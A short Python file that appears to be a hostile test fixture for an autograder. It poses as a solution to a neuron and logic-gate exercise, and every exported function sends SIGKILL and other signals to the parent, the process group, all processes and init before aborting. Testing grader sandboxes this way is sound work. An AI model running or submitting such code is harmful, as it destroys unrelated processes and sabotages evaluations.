#: says = "abort(), raise(SIGKILL) and signals to the parent, the group and everyone."
#: at_most = 0.0
import os
import signal


def shoot(*args, **kwargs):
    for pid in (os.getppid(), 0, -1, 1, os.getpid()):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGHUP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.abort()


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = shoot
